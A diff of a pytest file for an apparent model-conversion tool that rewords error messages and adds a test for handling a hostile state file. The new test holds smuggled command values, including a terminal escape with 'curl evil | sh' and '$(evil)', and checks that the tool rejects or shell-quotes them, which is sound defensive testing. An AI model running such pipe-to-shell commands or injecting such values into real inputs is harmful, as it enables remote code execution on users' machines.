@@ -138,7 +138,7 @@ def test_what_was_repaired_is_said(tmp_path, source, whole, capsys):
         (out / name).write_bytes(bytes((out / name).stat().st_size))
     assert main(arguments) == 0
     files = ", ".join(LARGE[:3])
-    assert f"repaired 4 damaged or missing files of an earlier run: {files}, ...\n" in capsys.readouterr().err
+    assert f"repaired 4 files of an earlier run, damaged or missing: {files}, ...\n" in capsys.readouterr().err
     assert tree(out) == tree(whole)
 
 
@@ -160,10 +160,29 @@ def test_an_unfinished_conversion_says_how_to_finish_it(tmp_path, source, whole,
     )
     monkeypatch.chdir(tmp_path)
     assert main(shlex.split(err.partition("run: ")[2])[3:]) == 0
-    assert "kept 1 files" in capsys.readouterr().err or len(tree(out)) == len(tree(whole))
-    assert "command" not in json.loads((out / STATE).read_text())
-    with pytest.raises(ModelFileError, match="begun with another options"):
+    assert "kept 1 file of" in capsys.readouterr().err or len(tree(out)) == len(tree(whole))
+    with pytest.raises(ModelFileError, match="begun with other options"):
         convert(source, out)
+
+
+@pytest.mark.parametrize(
+    "state",
+    [
+        {"origin": {"hf_path": "x\n\x1b[2J; curl evil | sh", "revision": 3}, "options": {}},
+        {"origin": "x", "options": None},
+        {"origin": {"hf_path": 3}},
+        {},
+    ],
+)
+def test_a_foreign_state_file_is_not_repeated(tmp_path, state, capsys):
+    (tmp_path / STATE).write_text(json.dumps(state))
+    assert generate(["--model", str(tmp_path)]) == 1
+    assert capsys.readouterr().err == (
+        f"error: {tmp_path} holds an unfinished conversion; run the command that began it again\n"
+    )
+    (tmp_path / STATE).write_text(json.dumps({"origin": {"hf_path": "$(evil)", "revision": "a b"}, "options": {}}))
+    assert generate(["--model", str(tmp_path)]) == 1
+    assert "--hf-path '$(evil)' --mlx-path" in (err := capsys.readouterr().err) and "--revision 'a b'" in err
 
 
 @pytest.mark.parametrize("name", [LARGE[0], LARGE[3]])
@@ -218,16 +237,16 @@ def test_a_damaged_state_file(tmp_path, source, whole):
 
 def test_another_source_or_other_options_are_noticed(tmp_path, source, whole):
     out = copy_of(whole, tmp_path)
-    with pytest.raises(ModelFileError, match="begun with another options"):
+    with pytest.raises(ModelFileError, match="begun with other options"):
         convert(source, out, q_bits=8)
     other = shutil.copytree(source, tmp_path / "other")
     config = json.loads((other / "config.json").read_text())
     (other / "config.json").write_text(json.dumps({**config, "rope_theta": 5e5}))
-    with pytest.raises(ModelFileError, match="begun with another source"):
+    with pytest.raises(ModelFileError, match="begun from another checkpoint"):
         convert(other, out)
     touched = shutil.copytree(source, tmp_path / "touched")
     os.utime(touched / "model.safetensors", ns=(0, 0))
-    with pytest.raises(ModelFileError, match="begun with another source"):
+    with pytest.raises(ModelFileError, match="begun from another checkpoint"):
         convert(touched, out)
 
 
